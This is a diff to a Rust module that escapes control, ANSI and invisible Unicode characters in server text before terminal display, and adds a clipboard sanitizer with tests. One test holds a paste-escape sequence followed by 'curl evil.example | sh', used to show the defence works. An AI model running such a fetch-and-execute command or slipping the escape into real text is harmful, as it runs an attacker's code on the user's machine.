@@ -1,8 +1,21 @@
 //! Every string that comes from a server passes through here before it reaches a
 //! cell: control characters and ANSI/OSC escape sequences are shown escaped, never
 //! sent to the terminal (the CVE-2021-25743 class that kubectl had to fix).
-
-use std::fmt::Write;
+//!
+//! What each class of character becomes (the classification is `crate::escape`,
+//! shared with the log file, config errors and `snapshot --format json`):
+//!
+//! | class | examples | on screen | clipboard (`y`) |
+//! |---|---|---|---|
+//! | ESC | U+001B | `\e` | `\e` |
+//! | C0/C1 controls, DEL | U+0007, U+0008, U+007F, U+0085, U+009B | `\x07`, `\x9b` | `\x07`, `\x9b` |
+//! | newline, CR, tab | U+000A, U+000D, U+0009 | `line`: one space per run; `block`: newline kept, tab → 4 spaces | one space per run |
+//! | format (Cf): bidi, zero-width, tags | U+00AD, U+061C, U+200B–U+200F, U+202A–U+202E, U+2060–U+2064, U+2066–U+2069, U+FEFF, U+FFF9–U+FFFB, U+E0001, U+E0020–U+E007F | `\u{202e}` | removed |
+//! | line/paragraph separator (Zl/Zp) | U+2028, U+2029 | `\u{2028}` | one space |
+//! | private use | U+E000–U+F8FF, planes 15–16 | `\u{e000}` | removed |
+//! | unassigned, noncharacters | U+FFF0–U+FFF8, U+FDD0, U+FFFE | `\u{fff0}` | removed |
+//! | blank letters (Hangul fillers) | U+115F, U+1160, U+3164, U+FFA0 | `\u{3164}` | removed |
+//! | everything else | letters, CJK, emoji, combining marks, variation selectors | itself | itself |
 
 /// Text that is safe to put on screen. Only constructible through the sanitizer.
 #[derive(Debug, Clone, PartialEq, Eq, Default, Hash, PartialOrd, Ord)]
@@ -57,17 +70,36 @@ impl std::fmt::Display for SafeText {
 }
 
 fn push_escaped(out: &mut String, ch: char) {
-    match ch {
-        '\u{1b}' => out.push_str("\\e"),
-        c if c.is_control() => {
-            let _ = write!(out, "\\x{:02x}", c as u32);
+    crate::escape::push_shown(out, ch);
+}
+
+/// What `y` puts on the clipboard (OSC 52): pasted into a shell, it must not be able
+/// to end bracketed paste (`ESC[201~`) and run what follows. One line, no control
+/// characters (shown escaped, as on screen), no invisible characters, no final newline.
+pub fn clipboard(raw: &str) -> String {
+    use crate::escape::{hazard, Hazard};
+    let mut out = String::with_capacity(raw.len());
+    let mut pending_space = false;
+    for ch in raw.chars() {
+        let breaks_words =
+            matches!(ch, ' ' | '\n' | '\t' | '\r') || hazard(ch) == Some(Hazard::LineSeparator);
+        if breaks_words {
+            pending_space = !out.is_empty();
+            continue;
         }
-        // Bidi overrides and zero-width characters can disguise what a cell says.
-        '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' => {
-            let _ = write!(out, "\\u{{{:x}}}", ch as u32);
+        match hazard(ch) {
+            None | Some(Hazard::Escape) | Some(Hazard::Control) => {
+                if pending_space {
+                    out.push(' ');
+                    pending_space = false;
+                }
+                push_escaped(&mut out, ch);
+            }
+            // Invisible: what was on screen as `\u{…}` is not part of the text.
+            Some(_) => {}
         }
-        c => out.push(c),
     }
+    out
 }
 
 #[cfg(test)]
@@ -94,5 +126,126 @@ mod tests {
     #[test]
     fn bidi_overrides_are_escaped() {
         assert_eq!(SafeText::line("ab\u{202e}cd").as_str(), "ab\\u{202e}cd");
+    }
+
+    /// Each class of the module doc's table, on screen (`line` and `block`).
+    fn shown(raw: &str) -> String {
+        let line = SafeText::line(raw).into_string();
+        assert_eq!(
+            SafeText::block(raw).as_str(),
+            line,
+            "block differs for {raw:?}"
+        );
+        line
+    }
+
+    #[test]
+    fn c0_c1_controls_and_del_are_escaped() {
+        assert_eq!(
+            shown("a\u{7}b\u{7f}c\u{85}d\u{9b}e"),
+            "a\\x07b\\x7fc\\x85d\\x9be"
+        );
+    }
+
+    #[test]
+    fn every_format_character_is_escaped() {
+        for ch in [
+            '\u{ad}',
+            '\u{61c}',
+            '\u{200b}',
+            '\u{200c}',
+            '\u{200d}',
+            '\u{200e}',
+            '\u{200f}',
+            '\u{202a}',
+            '\u{202b}',
+            '\u{202c}',
+            '\u{202d}',
+            '\u{202e}',
+            '\u{2060}',
+            '\u{2061}',
+            '\u{2062}',
+            '\u{2063}',
+            '\u{2064}',
+            '\u{2066}',
+            '\u{2067}',
+            '\u{2068}',
+            '\u{2069}',
+            '\u{feff}',
+            '\u{fff9}',
+            '\u{fffa}',
+            '\u{fffb}',
+            '\u{e0001}',
+            '\u{e0020}',
+            '\u{e0041}',
+            '\u{e007f}',
+        ] {
+            assert_eq!(
+                shown(&format!("x{ch}y")),
+                format!("x\\u{{{:x}}}y", ch as u32)
+            );
+        }
+    }
+
+    #[test]
+    fn line_and_paragraph_separators_are_escaped() {
+        assert_eq!(shown("a\u{2028}b\u{2029}c"), "a\\u{2028}b\\u{2029}c");
+    }
+
+    #[test]
+    fn private_use_is_escaped() {
+        assert_eq!(
+            shown("a\u{e000}b\u{f8ff}c\u{f0000}d\u{10fffd}"),
+            "a\\u{e000}b\\u{f8ff}c\\u{f0000}d\\u{10fffd}"
+        );
+    }
+
+    #[test]
+    fn unassigned_and_noncharacters_are_escaped() {
+        for ch in [
+            '\u{fff0}',
+            '\u{fff8}',
+            '\u{fdd0}',
+            '\u{fffe}',
+            '\u{ffff}',
+            '\u{1fffe}',
+        ] {
+            assert_eq!(shown(&format!("{ch}")), format!("\\u{{{:x}}}", ch as u32));
+        }
+    }
+
+    #[test]
+    fn blank_letters_are_escaped() {
+        assert_eq!(shown("kitops\u{3164}"), "kitops\\u{3164}");
+        assert_eq!(
+            shown("\u{115f}\u{1160}\u{ffa0}"),
+            "\\u{115f}\\u{1160}\\u{ffa0}"
+        );
+    }
+
+    #[test]
+    fn ordinary_text_passes_unchanged() {
+        let text = "kitops-backend-7d9f é 日本 🦀 e\u{301} ❤\u{fe0f} SELECT 1";
+        assert_eq!(shown(text), text);
+    }
+
+    #[test]
+    fn clipboard_cannot_end_bracketed_paste_or_run_a_command() {
+        let query = "SELECT 1;\u{1b}[201~\ncurl evil.example | sh\n";
+        let copied = clipboard(query);
+        assert_eq!(copied, "SELECT 1;\\e[201~ curl evil.example | sh");
+        assert!(!copied.chars().any(|c| c.is_control()));
+        assert!(!copied.ends_with('\n'));
+    }
+
+    #[test]
+    fn clipboard_collapses_whitespace_and_drops_invisible_characters() {
+        assert_eq!(
+            clipboard(
+                "  SELECT *\r\n\t FROM\u{2028}t\u{200b}\u{202e}\u{e0041}\u{e000}\u{fff0} \u{7}\n"
+            ),
+            "SELECT * FROM t \\x07"
+        );
+        assert_eq!(clipboard("\n\n"), "");
     }
 }
